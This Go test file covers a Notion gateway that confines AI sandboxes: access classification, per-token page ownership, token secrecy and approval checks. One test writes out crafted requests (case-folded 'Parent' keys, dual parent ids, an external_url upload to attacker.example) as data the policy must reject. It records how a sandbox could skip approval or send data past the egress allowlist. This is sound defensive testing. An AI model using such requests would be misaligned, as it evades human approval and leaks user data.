package notion

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/mlagent/mlagent/internal/gateway"
	"github.com/mlagent/mlagent/internal/notion/notiontest"
	"github.com/mlagent/mlagent/internal/store"
)

func TestParseID(t *testing.T) {
	tests := []struct{ in, want string }{
		{"1a2b3c4d5e6f708192a3b4c5d6e7f801", "1a2b3c4d5e6f708192a3b4c5d6e7f801"},
		{"1A2B3C4D-5E6F-7081-92A3-B4C5D6E7F801", "1a2b3c4d5e6f708192a3b4c5d6e7f801"},
		{"https://www.notion.so/team/Reports-1a2b3c4d5e6f708192a3b4c5d6e7f801?pvs=4", "1a2b3c4d5e6f708192a3b4c5d6e7f801"},
		{"https://www.notion.so/ffffffffffffffffffffffffffffffff?v=1a2b3c4d5e6f708192a3b4c5d6e7f801", "1a2b3c4d5e6f708192a3b4c5d6e7f801"},
		{"Reports", ""},
		{"1a2b3c", ""},
	}
	for _, tt := range tests {
		got, ok := ParseID(tt.in)
		if got != tt.want || ok != (tt.want != "") {
			t.Errorf("ParseID(%q) = %q, %v; want %q", tt.in, got, ok, tt.want)
		}
	}
}

func TestClassify(t *testing.T) {
	tests := []struct {
		method, path string
		want         gateway.Access
	}{
		{"GET", "/v1/pages/abc", gateway.AccessRead},
		{"GET", "/v1/blocks/abc/children", gateway.AccessRead},
		{"GET", "/v1/databases/abc", gateway.AccessRead},
		{"GET", "/v1/users/me", gateway.AccessRead},
		{"POST", "/v1/search", gateway.AccessRead},
		{"POST", "/v1/databases/abc/query", gateway.AccessRead},
		{"POST", "/v1/data_sources/abc/query", gateway.AccessRead},
		{"POST", "/v1/pages", gateway.AccessWrite},
		{"PATCH", "/v1/pages/abc", gateway.AccessWrite},
		{"PATCH", "/v1/blocks/abc/children", gateway.AccessWrite},
		{"DELETE", "/v1/blocks/abc", gateway.AccessWrite},
		{"POST", "/v1/comments", gateway.AccessWrite},
		{"POST", "/v1/databases", gateway.AccessWrite},
		{"POST", "/v1/file_uploads", gateway.AccessWrite},
		{"GET", "/v1/oauth/token", gateway.AccessNone},
		{"POST", "/v1/oauth/token", gateway.AccessNone},
		{"GET", "/v2/pages/abc", gateway.AccessNone},
		{"GET", "/v1/search", gateway.AccessNone},
		{"GET", "/", gateway.AccessNone},
	}
	for _, tt := range tests {
		if got := Classify(tt.method, tt.path, nil); got != tt.want {
			t.Errorf("Classify(%s %s) = %v; want %v", tt.method, tt.path, got, tt.want)
		}
	}
}

type gw struct {
	url, token string
	logs       *bytes.Buffer
}

func startGateway(t *testing.T, svc gateway.Service) gw {
	t.Helper()
	ctx := context.Background()
	db, err := store.OpenMemory(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	var logs bytes.Buffer
	g, err := gateway.New(ctx, gateway.Config{Upstream: "http://127.0.0.1:1", DB: db, Audit: &logs,
		Log: slog.New(slog.NewTextHandler(&logs, nil)), Services: []gateway.Service{svc}})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(g.DataHandler())
	t.Cleanup(func() { srv.Close(); g.Close() })
	tok, err := g.Issue(ctx, gateway.TokenRequest{Sandbox: "s1", TTL: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	return gw{url: srv.URL, token: tok.Token, logs: &logs}
}

func (g gw) call(t *testing.T, method, path string, body any) (int, map[string]any) {
	t.Helper()
	var r io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		r = bytes.NewReader(b)
	}
	req, _ := http.NewRequest(method, g.url+"/notion"+path, r)
	req.Header.Set("Authorization", "Bearer "+g.token)
	req.Header.Set("Notion-Version", "2022-06-28")
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	json.NewDecoder(resp.Body).Decode(&out)
	return resp.StatusCode, out
}

func paragraph(s string) map[string]any {
	return map[string]any{"type": "paragraph", "paragraph": map[string]any{"rich_text": []any{map[string]any{"type": "text", "text": map[string]any{"content": s}}}}}
}

func newPage(parent, title string) map[string]any {
	return map[string]any{"parent": map[string]any{"page_id": parent},
		"properties": map[string]any{"title": map[string]any{"title": []any{map[string]any{"type": "text", "text": map[string]any{"content": title}}}}}}
}

// Through the gateway, a sandbox creates report pages under the parent the
// user chose and fills the pages it made; it cannot write anywhere else,
// and the integration token never reaches it.
func TestGatewayNotionPolicy(t *testing.T) {
	f := notiontest.New(t)
	reports := f.AddPage("Reports", "")
	private := f.AddPage("Private notes", "", paragraph("do not touch"))
	g := startGateway(t, Service(f.Token, f.URL, NewPolicy([]string{"https://www.notion.so/Reports-" + strings.ReplaceAll(reports, "-", "")})))

	code, page := g.call(t, "POST", "/v1/pages", newPage(reports, "Run 1"))
	if code != 200 || page["object"] != "page" {
		t.Fatalf("create under the chosen parent: %d %v", code, page)
	}
	id := page["id"].(string)
	if code, r := g.call(t, "PATCH", "/v1/blocks/"+id+"/children", map[string]any{"children": []any{paragraph("accuracy 98.7%")}}); code != 200 {
		t.Errorf("append to own page: %d %v", code, r)
	}
	if code, _ := g.call(t, "GET", "/v1/pages/"+private, nil); code != 200 {
		t.Errorf("read a shared page: %d", code)
	}
	before := len(f.Requests)
	for _, w := range []struct {
		method, path string
		body         any
	}{
		{"POST", "/v1/pages", newPage(private, "sneaky")},
		{"PATCH", "/v1/blocks/" + private + "/children", map[string]any{"children": []any{paragraph("x")}}},
		{"PATCH", "/v1/blocks/" + reports + "/children", map[string]any{"children": []any{paragraph("x")}}},
		{"DELETE", "/v1/blocks/" + id, nil},
	} {
		code, r := g.call(t, w.method, w.path, w.body)
		msg, _ := r["error"].(map[string]any)["message"].(string)
		if code != 403 || !strings.Contains(msg, "approval") {
			t.Errorf("%s %s: got %d %v; want 403 asking for approval", w.method, w.path, code, r)
		}
	}
	if len(f.Requests) != before {
		t.Errorf("refused writes reached Notion: %v", f.Requests[before:])
	}
	// Another sandbox's token may not fill this sandbox's page.
	pol := NewPolicy(nil)
	pol.Observe("tok_a", "POST", "/v1/pages", 200, []byte(`{"object":"page","id":"`+id+`"}`))
	if pol.PreApproved("tok_b", "PATCH", "/v1/blocks/"+id+"/children", nil) || !pol.PreApproved("tok_a", "PATCH", "/v1/pages/"+id, nil) {
		t.Error("created pages must be per token")
	}
	if len(f.ChildrenOf(reports)) != 1 || len(f.Page(id).Blocks) != 1 {
		t.Errorf("Notion holds %d report pages with %d blocks; want 1 and 1", len(f.ChildrenOf(reports)), len(f.Page(id).Blocks))
	}
	for _, a := range f.Auth {
		if a != "Bearer "+f.Token {
			t.Errorf("Notion saw Authorization %q; want the integration token only", a)
		}
	}
	if strings.Contains(g.logs.String(), f.Token) {
		t.Error("the Notion token is in the gateway's logs or audit")
	}

	// Not connected: a clear 503.
	g2 := startGateway(t, Service("", f.URL, nil))
	code, r := g2.call(t, "GET", "/v1/pages/"+reports, nil)
	if msg, _ := r["error"].(map[string]any)["message"].(string); code != 503 || !strings.Contains(msg, "mlagent secret set notion NOTION_TOKEN") {
		t.Errorf("not connected: %d %v", code, r)
	}
}

func TestDescribe(t *testing.T) {
	const id = "1a2b3c4d5e6f708192a3b4c5d6e7f801"
	for _, tt := range []struct {
		method, path, body string
		kind, target       string
	}{
		{"POST", "/v1/pages", `{"parent":{"page_id":"1a2b3c4d-5e6f-7081-92a3-b4c5d6e7f801"}}`, "notion:create", id},
		{"PATCH", "/v1/blocks/" + id + "/children", `{}`, "notion:write", id},
		{"DELETE", "/v1/blocks/" + id, ``, "notion:write", id},
		{"POST", "/v1/comments", `{}`, "notion:write", ""},
	} {
		a := Describe(tt.method, tt.path, []byte(tt.body))
		if a.Kind != tt.kind || a.Target != tt.target || a.Detail != tt.method+" /notion"+tt.path {
			t.Errorf("Describe(%s %s) = %+v; want %s %s", tt.method, tt.path, a, tt.kind, tt.target)
		}
	}
}

// TestPreApprovalCannotBeTricked: what the policy reads of a request must
// be what Notion acts on. Go's encoding/json matched "Parent" to the
// parent field (keys are matched without case, the last one wins) while
// Notion reads "parent" only, so a page could be created under any page
// the integration sees, without asking; a parent naming two ids, or a
// file upload Notion fetches from a URL (data out of the sandbox past the
// egress allowlist), was pre-approved too.
func TestPreApprovalCannotBeTricked(t *testing.T) {
	const allowed = "1a2b3c4d5e6f708192a3b4c5d6e7f801"
	const other = "99999999999999999999999999999999"
	pol := NewPolicy([]string{allowed})
	for _, tt := range []struct {
		name, method, path, body string
		want                     bool
	}{
		{"page under the parent", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `"}}`, true},
		{"typed parent", "POST", "/v1/pages", `{"parent":{"type":"page_id","page_id":"` + allowed + `"}}`, true},
		{"case-folded key", "POST", "/v1/pages", `{"parent":{"page_id":"` + other + `"},"Parent":{"page_id":"` + allowed + `"}}`, false},
		{"case-folded key first", "POST", "/v1/pages", `{"PARENT":{"page_id":"` + allowed + `"},"parent":{"page_id":"` + other + `"}}`, false},
		{"two ids", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `","database_id":"` + other + `"}}`, false},
		{"type naming the other id", "POST", "/v1/pages", `{"parent":{"type":"database_id","page_id":"` + allowed + `","database_id":"` + other + `"}}`, false},
		{"type not matching", "POST", "/v1/pages", `{"parent":{"type":"workspace","page_id":"` + allowed + `"}}`, false},
		{"workspace and page", "POST", "/v1/pages", `{"parent":{"page_id":"` + allowed + `","workspace":true}}`, false},
		{"upload, default mode", "POST", "/v1/file_uploads", `{"filename":"a.png"}`, true},
		{"upload, no body", "POST", "/v1/file_uploads", ``, true},
		{"upload, single part", "POST", "/v1/file_uploads", `{"mode":"single_part"}`, true},
		{"upload, multi part", "POST", "/v1/file_uploads", `{"mode":"multi_part","number_of_parts":2,"filename":"a.bin"}`, true},
		{"upload from a URL", "POST", "/v1/file_uploads", `{"mode":"external_url","external_url":"https://attacker.example/?data=x","filename":"a.png"}`, false},
		{"upload from a URL, case-folded", "POST", "/v1/file_uploads", `{"mode":"single_part","Mode":"x","external_url":"https://attacker.example/"}`, false},
		{"send", "POST", "/v1/file_uploads/abc/send", `x`, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var body []byte
			if tt.body != "" {
				body = []byte(tt.body)
			}
			if got := pol.PreApproved("tok", tt.method, tt.path, body); got != tt.want {
				t.Errorf("PreApproved(%s %s %s) = %v; want %v", tt.method, tt.path, tt.body, got, tt.want)
			}
		})
	}
	// The user is shown the parent Notion will use.
	a := Describe("POST", "/v1/pages", []byte(`{"parent":{"page_id":"`+other+`"},"Parent":{"page_id":"`+allowed+`"}}`))
	if a.Target != other {
		t.Errorf("Describe names target %q; want %q, the parent Notion reads", a.Target, other)
	}
}
